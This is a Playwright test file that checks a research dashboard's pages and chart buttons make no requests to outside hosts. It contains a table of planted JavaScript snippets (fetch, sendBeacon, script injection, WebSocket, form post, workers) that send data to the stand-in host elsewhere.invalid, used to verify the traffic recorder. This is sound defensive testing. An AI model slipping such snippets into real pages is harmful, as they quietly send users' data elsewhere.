"""Unpublished maps and spectra stand on these pages: nothing on them leads anywhere but to their own server."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from living_page import await_rest
from outgoing import EARS, Ear, Outgoing
from playwright.sync_api import Browser, Page, expect
from served_dashboard import ServedDashboard
from waiting import await_condition, patience

pytestmark = pytest.mark.browser

ELSEWHERE = "https://elsewhere.invalid"


@contextmanager
def window(browser: Browser, address: str, *, bypass_csp: bool = False) -> Iterator[tuple[Page, Outgoing]]:
    context = browser.new_context(viewport={"width": 1440, "height": 1000}, bypass_csp=bypass_csp)
    outgoing = Outgoing(context, address)
    page = context.new_page()
    page.set_default_timeout(patience() * 1000)
    expect.set_options(timeout=patience() * 1000)
    yield page, outgoing
    context.close()


def pages(prepared: ServedDashboard) -> list[tuple[str, str, int]]:
    """Every page with something to see on it: its path, its heading and how many charts it has."""
    small = prepared.laboratory
    return [
        ("", "Experiments", 0),
        ("new", "New experiment", 0),
        (f"experiment?id={small.finished}", "Finished one", 2),
        (f"experiment?id={small.failed}", "Failed one", 0),
        (f"experiment?id={small.draft}", "A draft", 0),
        (f"compare?ids={small.finished},{prepared.second}", "Compare", 3),
        (f"sample?model={small.finished}&sample={small.sample}", "Sample", 1),
        ("datasets", "quick", 0),
        ("workers", "Workers", 0),
    ]


def open_page(page: Page, address: str, path: str, heading: str, charts: int) -> None:
    page.goto(f"{address}/{path}")
    expect(page.locator("h1").first).to_contain_text(heading)
    drawn = page.locator(".focus-chart[data-draws]")
    if charts:
        expect(drawn).to_have_count(charts)
    page.wait_for_load_state("networkidle")
    await_rest(page)


def press_every_button_of_charts_and_tables(page: Page) -> list[str]:
    buttons = page.locator(".modebar-btn, [data-testid=stElementToolbarButton] button").all()
    names = [str(button.get_attribute("data-title") or button.get_attribute("aria-label")) for button in buttons]
    for button in buttons:
        button.dispatch_event("click")
    return names


def test_no_page_and_no_button_of_a_chart_asks_anything_of_another_machine(
    browser: Browser, prepared: ServedDashboard
) -> None:
    with window(browser, prepared.address) as (page, outgoing):
        for path, heading, charts in pages(prepared):
            open_page(page, prepared.address, path, heading, charts)
            pressed = press_every_button_of_charts_and_tables(page)
            assert pressed.count("Download plot") == charts, f"/{path} has the buttons {pressed}"
            assert not [name for name in pressed if "hare" in name or "loud" in name]
            outgoing.look_at_links(page)
            expect(page.get_by_test_id("stMainMenu")).to_have_count(0)
            expect(page.get_by_test_id("stAppDeployButton")).to_have_count(0)
        page.wait_for_load_state("networkidle")
        assert outgoing.outside == []
        assert outgoing.refused == [], "asked for what there is not"
        assert outgoing.seen > 100, "the recorder saw hardly anything"


SHUT: set[Ear] = {"policy", "console"}
SERVICE_WORKER = "planted-service-worker.js"
# By what each kind is heard, where the page's policy shuts it and where there is no policy.
PLANTED: dict[str, tuple[str, set[Ear], set[Ear]]] = {
    "a fetch": ("fetch('ELSEWHERE/fetched').catch(() => {})", SHUT, {"request"}),
    "a picture": ("new Image().src = 'ELSEWHERE/picture.png'", SHUT, {"request"}),
    "a beacon": ("navigator.sendBeacon('ELSEWHERE/beacon', 'maps')", SHUT, {"request"}),
    "a script": (
        "document.head.append(Object.assign(document.createElement('script'), {src: 'ELSEWHERE/script.js'}))",
        SHUT,
        {"request"},
    ),
    "a style sheet": ("add('<link rel=stylesheet href=ELSEWHERE/sheet.css>')", SHUT, {"request"}),
    "a frame": ("add('<iframe src=ELSEWHERE/frame></iframe>')", SHUT, {"request"}),
    "the ping of a link": ("add('<a href=#here ping=ELSEWHERE/ping>here</a>').click()", SHUT, {"request"}),
    "a WebSocket": ("new WebSocket('wss://elsewhere.invalid/socket')", SHUT, {"socket"}),
    "a stream of events": (
        "const events = new EventSource('ELSEWHERE/events'); events.onerror = () => events.close()",
        SHUT,
        {"request"},
    ),
    "a form": ("add('<form method=post target=_blank action=ELSEWHERE/form>').submit()", SHUT, {"request", "window"}),
    # No policy of a page forbids these, nor tells of what a worker is kept from.
    "a window": ("window.open('ELSEWHERE/window')", {"window", "request"}, {"window", "request"}),
    "an empty window": ("window.open('about:blank')", {"window"}, {"window"}),
    "a worker": ("new Worker(blob('ELSEWHERE/worker'))", {"worker"}, {"worker", "request"}),
    "a shared worker": ("new SharedWorker(blob('ELSEWHERE/shared'))", {"shared worker"}, {"shared worker"}),
    "a service worker": (
        f"navigator.serviceWorker.register('/{SERVICE_WORKER}')",
        {"service worker"},
        {"service worker"},
    ),
    "a connection to another browser": (
        "new RTCPeerConnection({iceServers: [{urls: 'stun:elsewhere.invalid'}]})",
        {"peer"},
        {"peer"},
    ),
    "a link that nobody follows": ("add('<a href=ELSEWHERE/link>there</a>')", {"link"}, {"link"}),
    "a page that is left": ("location.href = 'ELSEWHERE/left'", {"request"}, {"request"}),  # the last: it is gone then
}
PLANTING = """
const add = (html) => { document.body.insertAdjacentHTML("beforeend", html); return document.body.lastElementChild; };
const blob = (address) => URL.createObjectURL(new Blob([`fetch("${address}").catch(() => 0)`]));
"""


def test_every_ear_of_the_recorder_is_needed_for_something_planted() -> None:
    for case in (1, 2):
        heard = {ear for planted in PLANTED.values() for ear in planted[case]}
        assert heard == set(EARS) - (SHUT if case == 2 else {"socket"})


@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without its policy"])
def test_whatever_a_page_sends_elsewhere_is_heard_by_each_ear_that_is_meant_for_it(
    browser: Browser, prepared: ServedDashboard, policy: bool
) -> None:
    """The recorder of the test above finds each kind of door, whether the page's policy shuts it or is not there."""
    with window(browser, prepared.address, bypass_csp=not policy) as (page, outgoing):
        page.context.route(f"**/{SERVICE_WORKER}", lambda asked: asked.fulfill(content_type="text/javascript", body=""))
        open_page(page, prepared.address, "workers", "Workers", 0)
        assert outgoing.outside == []
        for kind, (script, shut, open_wide) in PLANTED.items():
            outgoing.outside.clear()
            page.evaluate(f"() => {{ {PLANTING} {script.replace('ELSEWHERE', ELSEWHERE)} }}")
            if kind == "a link that nobody follows":
                outgoing.look_at_links(page)
            for ear in shut if policy else open_wide:
                await_condition(lambda ear=ear: _heard(page, outgoing, ear), f"{kind} to be heard as a {ear}")
        assert any(answer.startswith("404") for answer in _after_asking_for_nothing(page, prepared, outgoing))


def _heard(page: Page, outgoing: Outgoing, ear: Ear) -> bool:
    page.wait_for_timeout(1)  # Playwright tells of events only while it is waited on
    return ear in {heard for heard, _ in outgoing.outside}


def _after_asking_for_nothing(page: Page, prepared: ServedDashboard, outgoing: Outgoing) -> list[str]:
    """In a window of its own: the one that was left may still be on its way to the page of an error."""
    page.context.new_page().goto(f"{prepared.address}/artifacts/nothing.webp")
    return outgoing.refused
